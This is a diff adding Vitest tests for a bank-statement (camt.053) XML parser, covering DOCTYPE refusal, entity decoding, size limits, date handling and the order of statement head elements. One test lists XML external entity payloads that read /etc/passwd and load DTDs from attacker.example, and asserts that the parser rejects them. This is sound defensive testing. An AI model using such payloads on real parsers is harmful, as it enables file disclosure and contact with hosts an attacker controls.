@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { ApiError } from '../../http/errors.js'
 import { parseCamt } from './camt-parser.js'
+import { MAX_XML_TOKEN_CHARS } from './statement.limits.js'
 
 const NS = 'urn:iso:std:iso:20022:tech:xsd'
 
@@ -60,6 +61,21 @@ describe('message detection', () => {
     expect(rejection('<Report/>').details).toEqual([expect.objectContaining({ code: 'unsupported_message', field: 'Report' })])
   })
 
+  it('refuses a DOCTYPE, whatever it declares, and expands no entity of it', () => {
+    const declarations = [
+      '<!DOCTYPE Document [<!ENTITY name "Expanded">]>',
+      '<!DOCTYPE Document [<!ENTITY name SYSTEM "file:///etc/passwd">]>',
+      '<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
+      '<!DOCTYPE Document SYSTEM "http://attacker.example/statement.dtd">',
+    ]
+    for (const declaration of declarations) {
+      const xml = message(`${NS}:camt.053.001.08`).replace('?>\n', `?>\n${declaration}\n`).replace('<MsgId>M-1</MsgId>', '<MsgId>&name;</MsgId>')
+      const error = rejection(xml)
+      expect(error.status).toBe(400)
+      expect(error.details).toEqual([{ code: 'doctype_not_allowed', field: 'line 2', error: 'a DOCTYPE declaration is not accepted' }])
+    }
+  })
+
   it('rejects malformed XML with the line and column of the fault', () => {
     const error = rejection('<?xml version="1.0"?>\n<Document>\n  <BkToCstmrStmt>\n  </BkToCstmrStm>\n</Document>')
     expect(error.status).toBe(400)
@@ -77,6 +93,19 @@ describe('entries', () => {
       message(v08, { entry: '<Ntry><Sts><Cd>BOOK</Cd></Sts><NtryDtls><TxDtls><RltdPties><Dbtr><Pty><Nm>Fish &amp; Chips &#214;y</Nm></Pty></Dbtr></RltdPties></TxDtls></NtryDtls></Ntry>' }),
     )
     expect(named.statements[0]!.entries[0]!.details[0]!.debtor).toEqual({ name: 'Fish & Chips Öy' })
+  })
+
+  it("decodes XML's five predefined entities and numeric character references, and no other entity", () => {
+    const named = (name: string) => message(`${NS}:camt.053.001.08`, { entry: `<Ntry><Sts><Cd>BOOK</Cd></Sts><AddtlNtryInf>${name}</AddtlNtryInf></Ntry>` })
+    const [entry] = parseCamt(named('&lt;&gt;&amp;&apos;&quot; &#xE4;&#228;&#x1F4B6;')).statements[0]!.entries
+    expect(entry!.additionalInfo).toBe(`<>&'" ää\u{1F4B6}`)
+    expect(rejection(named('&nbsp;')).details).toEqual([expect.objectContaining({ code: 'malformed_xml', error: 'undefined entity' })])
+  })
+
+  it('refuses a text longer than the parser reads at once (413)', () => {
+    const error = rejection(message(`${NS}:camt.053.001.08`, { entry: `<Ntry><AddtlNtryInf>${'x'.repeat(MAX_XML_TOKEN_CHARS + 1)}</AddtlNtryInf></Ntry>` }))
+    expect(error.status).toBe(413)
+    expect(error.message).toContain('a single text, tag or comment runs past 1 MiB')
   })
 
   it('reads the .02 shapes: Sts text, Dbtr/Nm, BIC, AmtDtls/TxAmt', () => {
@@ -134,6 +163,20 @@ describe('entries', () => {
     ])
   })
 
+  it('reads dates as the local date written: an xs:date with its time zone, the date of a date-time with offset and fractions', () => {
+    const dated = (booking: string, value: string) => `<Ntry><Sts>BOOK</Sts><BookgDt>${booking}</BookgDt><ValDt>${value}</ValDt></Ntry>`
+    const dates = [
+      dated('<Dt>2017-04-01+02:00</Dt>', '<Dt>2017-04-01Z</Dt>'),
+      dated('<Dt>2017-04-01-05:00</Dt>', '<DtTm>2017-04-01T23:59:59.999-05:00</DtTm>'),
+      dated('<DtTm>2017-04-01T00:30:00.25+14:00</DtTm>', '<DtTm>2017-04-01T12:00:00Z</DtTm>'),
+    ]
+    const entries = parseCamt(message(v08, { entry: dates.join('') })).statements[0]!.entries
+    expect(entries.map((entry) => [entry.bookingDate, entry.valueDate])).toEqual(Array.from({ length: 3 }, () => ['2017-04-01', '2017-04-01']))
+    // What is no xs:date stays as written, for the rules to quote.
+    const [odd] = parseCamt(message(v08, { entry: dated('<Dt>2017-04-01+2</Dt>', '<Dt>01.04.2017</Dt>') })).statements[0]!.entries
+    expect([odd!.bookingDate, odd!.valueDate]).toEqual(['2017-04-01+2', '01.04.2017'])
+  })
+
   it('locates nodes by line and column', () => {
     const xml = message(v08).replace('<Ntry>', '\n\n   <Ntry>')
     const parsed = parseCamt(xml)
@@ -141,5 +184,34 @@ describe('entries', () => {
     // An entry is located by its content, which starts right after <Ntry>.
     expect(parsed.lineOf(parsed.statements[0]!.entries[0]!.offset)).toEqual({ line: 4, column: 10 })
     expect(parsed.lineOf(undefined)).toBeUndefined()
+  })
+})
+
+describe('statement heads', () => {
+  const v04 = `${NS}:camt.053.001.04`
+  const balance = '<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-03-02</Dt></Dt></Bal>'
+  const entry = '<Ntry><Sts>BOOK</Sts></Ntry>'
+  /** A statement of the given elements, in the order given. */
+  const document = (...elements: string[]) =>
+    `<Document xmlns="${v04}"><BkToCstmrStmt><GrpHdr><MsgId>M</MsgId></GrpHdr><Stmt>${elements.join('')}</Stmt></BkToCstmrStmt></Document>`
+  const account = '<Acct><Id><Othr><Id>85-123456-7</Id></Othr></Id><Ccy>CHF</Ccy></Acct>'
+
+  it('reads the creation date, the period and an account named by Othr/Id', () => {
+    const [statement] = parseCamt(
+      document('<Id>S</Id><CreDtTm>2026-03-31T05:42:17.613+02:00</CreDtTm><FrToDt><FrDtTm>2026-03-30T00:00:00+02:00</FrDtTm><ToDtTm>2026-03-30T23:59:59.999+02:00</ToDtTm></FrToDt>', account),
+    ).statements
+    expect(statement).toMatchObject({ id: 'S', creationDate: '2026-03-31', period: { from: '2026-03-30', to: '2026-03-30' }, account: { otherId: '85-123456-7', currency: 'CHF' } })
+  })
+
+  it('takes head elements that come after the balances, handing the balances on after the head', () => {
+    const parsed = parseCamt(document('<Id>S</Id>', balance, '<ElctrncSeqNb>7</ElctrncSeqNb>', account, balance, entry))
+    expect(parsed.statements[0]).toMatchObject({ id: 'S', electronicSequenceNumber: '7', account: { otherId: '85-123456-7' } })
+    expect(parsed.statements[0]!.balances.map((bal) => bal.path)).toEqual(['Stmt[1].Bal[1]', 'Stmt[1].Bal[2]'])
+    expect(parseCamt(document(balance, '<Id>S</Id>', account)).statements[0]).toMatchObject({ id: 'S', balances: [{ code: 'OPBD' }] })
+  })
+
+  it('refuses a head element after the first entry, which was checked against the account as it was read', () => {
+    const error = rejection(document('<Id>S</Id>', entry, account))
+    expect(error.details).toEqual([expect.objectContaining({ code: 'invalid_order', field: 'Stmt[1].Acct' })])
   })
 })
